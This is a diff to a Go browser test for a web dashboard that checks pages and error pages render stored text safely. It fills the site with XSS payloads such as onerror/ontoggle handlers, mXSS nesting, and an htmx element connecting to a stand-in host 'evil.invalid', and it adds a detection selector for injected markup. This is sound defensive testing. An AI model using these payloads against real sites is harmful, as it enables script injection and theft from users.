@@ -3,8 +3,8 @@ package web
 import (
 	"context"
 	"encoding/json"
+	"errors"
 	"fmt"
-	"html"
 	"net/url"
 	"os"
 	"path/filepath"
@@ -33,17 +33,45 @@ var attacks = []string{
 	`{{.Token}}<div hx-get="/settings" hx-trigger="load" hx-sse:connect="http://evil.invalid/"></div>`, `<details open ontoggle=window.pwned=1>`, "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
 }
 
+// attacked is a site with attacks in every text, and which of them its pages show.
+type attacked struct {
+	site
+	b     *browser
+	every string // attack, one a line
+	shown map[string]bool
+}
+
+// look fails where the page that is open took one for markup.
+func (a attacked) look(t *testing.T, path string) {
+	t.Helper()
+	if eval[bool](t, a.b, `window.pwned !== undefined || document.querySelector("main [hx-get], main iframe, main object, main script, main style, main base, main link, main meta, main img, main math, a[href^='javascript:'], [onerror], [onload], [onfocus], [ontoggle], [onmouseover]") !== null`) {
+		t.Errorf("%s took a text for markup", path)
+	}
+	text := eval[string](t, a.b, "document.documentElement.textContent")
+	for _, one := range attacks {
+		if strings.Contains(text, one) {
+			a.shown[one] = true
+		}
+	}
+}
+
+func (a attacked) visit(t *testing.T, path string) {
+	t.Helper()
+	a.b.do(t, chromedp.Navigate(a.b.address(a.site, path)))
+	a.look(t, path)
+}
+
 func TestNothingThatWasSaidIsRun(t *testing.T) {
 	if len(attacks) != 25 {
 		t.Fatalf("%d attacks, want 25", len(attacks))
 	}
 	b := newBrowser(t)
 	dir := privateDir(t)
-	n := fabricate(t, dir, plan{candidates: 25, budget: 1500, rich: 80, words: func(i int) string { return attacks[i%25] }})
+	n := fabricate(t, dir, plan{candidates: 25, budget: 1500, rich: 80, words: func(i int) string { return attacks[i%25] }, branch: func(i int) string { return attacks[(i+7)%25] }})
 	for i, a := range attacks {
 		write(t, filepath.Join(dir, "spool", fmt.Sprintf("a%02d.yaml", i)), fmt.Sprintf("rationale: %q\nfiles:\n  skills/find/SKILL.md: text\n", a))
 	}
-	o := optionsFor(t, dir)
+	o, every := optionsFor(t, dir), strings.Join(attacks, "\n")
 	o.Settings = func() ([]Setting, error) {
 		var out []Setting
 		for _, a := range attacks {
@@ -51,40 +79,68 @@ func TestNothingThatWasSaidIsRun(t *testing.T) {
 		}
 		return out, nil
 	}
-	s := openSite(t, o)
-	b.do(t, chromedp.Navigate(s.s.Link()))
-	shown := make(map[string]bool)
-	visit := func(path string) {
-		b.do(t, chromedp.Navigate(b.address(s, path)))
-		if eval[bool](t, b, `window.pwned !== undefined || document.querySelector("main [hx-get], main iframe, main object, main script, main style, main base, main link, main meta, main img, main math, a[href^='javascript:'], [onerror], [onload], [onfocus], [ontoggle], [onmouseover]") !== null`) {
-			t.Errorf("%s took a text for markup", path)
-		}
-		text := eval[string](t, b, "document.documentElement.textContent")
-		for _, a := range attacks {
-			if strings.Contains(text, a) {
-				shown[a] = true
-			}
-		}
-	}
-	paths := s.crawl(map[string]int{"trial": 30, "pair": 5, "raw": 8})
-	for path := range paths {
-		visit(path)
+	o.Add = func(context.Context, string, string) (string, error) { return "", errors.New(every) }
+	o.Adopt = (&asksFor{odd: every}).adopt
+	a := attacked{openSite(t, o), b, every, make(map[string]bool)}
+	b.do(t, chromedp.Navigate(a.s.Link()))
+	for path := range a.crawl(map[string]int{"trial": 30, "pair": 5, "raw": 8}) {
+		a.visit(t, path)
 	}
 	for _, p := range n.state.Trials[:4] {
-		visit("/trial/" + p.ID + "/raw/stderr.txt")
+		a.visit(t, "/trial/"+p.ID+"/raw/stderr.txt")
 	}
-	b.quiet(t, s)
-	for _, a := range attacks {
-		if !shown[a] {
-			t.Errorf("no page shows %s as the text it is", a)
+	a.visit(t, "/confirm/adopt?campaign="+url.QueryEscape(every))
+	b.quiet(t, a.site)
+	for _, one := range attacks {
+		if !a.shown[one] {
+			t.Errorf("no page shows %s as the text it is", one)
 		}
-		visit("/queue?said=" + url.QueryEscape(a))
-		// These are of no page: the browser notes that the answer is an error.
-		if _, body := s.get("/trial/" + url.PathEscape(a)); strings.Contains(body, a) && html.EscapeString(a) != a {
-			t.Errorf("the page of an error takes %s for markup", a)
+		a.visit(t, "/queue?said="+url.QueryEscape(one))
+	}
+	b.quiet(t, a.site)
+	a.errors(t)
+}
+
+// errors looks at the pages of errors, with attacks in what was asked for and in
+// what went wrong.
+func (a attacked) errors(t *testing.T) {
+	clear(a.shown)
+	for _, one := range attacks { // 404
+		a.visit(t, "/trial/"+url.PathEscape(one))
+	}
+	for _, one := range attacks {
+		if !a.shown[one] {
+			t.Errorf("the page of an error does not show %s", one)
 		}
 	}
-	b.quiet(t, s)
+	for _, refused := range []struct{ form, title, says string }{
+		{"/queue", "Conflict", a.every},                                     // 409
+		{"/queue?" + url.QueryEscape(a.every), "Forbidden", "did not come"}, // 403: without the form's token
+	} {
+		a.visit(t, "/queue")
+		a.b.do(t, chromedp.Evaluate[chromedp.Void](fmt.Sprintf(`{const f = document.querySelector("form.add"); f.noValidate = true; f.action = %q; if (%q === "Forbidden") f.token.value = %q; f.requestSubmit()}`, refused.form, refused.title, a.every)))
+		a.b.until(t, fmt.Sprintf("document.title.startsWith(%q)", refused.title))
+		a.look(t, "the answer "+refused.title)
+		if text := eval[string](t, a.b, "document.querySelector('main').textContent"); !strings.Contains(text, refused.says) {
+			t.Errorf("%s: %s", refused.title, text)
+		}
+	}
+	a.b.quiet(t, a.site, "Failed to load resource")
+	broken := privateDir(t) // 500
+	l, err := ledger.Open(broken)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := errorsOf(l.Append(t.Context(), ledger.Record{Time: nightLooked, Kind: a.every, Payload: []byte("{}")}), l.Close()); err != nil {
+		t.Fatal(err)
+	}
+	a.site = openSite(t, optionsFor(t, broken))
+	a.b.do(t, chromedp.Navigate(a.s.Link()))
+	a.visit(t, "/")
+	if title := eval[string](t, a.b, "document.title"); !strings.HasPrefix(title, "Internal Server Error") {
+		t.Errorf("a broken ledger: %s", title)
+	}
+	a.b.quiet(t, a.site, "Failed to load resource")
 }
 
 // keptUpToDate looks at a page that is open while loopd goes on.
@@ -134,7 +190,7 @@ func pictures(t *testing.T, b *browser, s site, n *night, to string) {
 	campaign := "/campaign/" + n.state.Started.Campaign
 	kept := candidatePath(n.state.Started.Campaign, n.state.Kept[0])
 	pair := links.FindAllStringSubmatch(s.want(kept), -1)
-	pages := map[string]string{"campaign": campaign, "candidate": kept, "queue": "/queue", "settings": "/settings", "frozen": "/frozen", "confirm": "/confirm/halt", "session": "/trial/" + n.state.Trials[3].ID}
+	pages := map[string]string{"campaign": campaign, "candidate": kept, "queue": "/queue", "settings": "/settings", "frozen": "/frozen", "confirm": "/confirm/halt", "adopt": "/confirm/adopt?campaign=" + n.state.Started.Campaign, "veto": "/confirm/veto", "problem": "/trial/none", "session": "/trial/" + n.state.Trials[3].ID}
 	for _, m := range pair {
 		if strings.HasPrefix(m[1], "/pair/") {
 			pages["pair"] = m[1]
@@ -160,6 +216,15 @@ func pictures(t *testing.T, b *browser, s site, n *night, to string) {
 		}
 		shoot(t, b, chromedp.FullScreenshot(100), filepath.Join(to, "full-"+name+".png"))
 	}
+	b.scheme(t, "light")
+	b.do(t, chromedp.EmulateViewport(1100, 900))
+	for _, odd := range oddCampaigns() {
+		s, path := odd.open(t)
+		b.do(t, chromedp.Navigate(s.s.Link()), chromedp.Navigate(b.address(s, path)))
+		shoot(t, b, chromedp.FullScreenshot(100), filepath.Join(to, "odd-"+strings.ReplaceAll(odd.name, " ", "-")+".png"))
+	}
+	b.do(t, chromedp.Navigate(s.s.Link()))
+	b.forget()
 }
 
 func shoot(t *testing.T, b *browser, a chromedp.Action[[]byte], path string) {
@@ -167,6 +232,9 @@ func shoot(t *testing.T, b *browser, a chromedp.Action[[]byte], path string) {
 	ctx, cancel := context.WithTimeout(b.ctx, time.Minute)
 	defer cancel()
 	data, err := chromedp.Run(ctx, a)
+	if err != nil { // a page of another server may just be taking its place
+		data, err = chromedp.Run(ctx, a)
+	}
 	if err == nil {
 		err = os.WriteFile(path, data, 0o644)
 	}
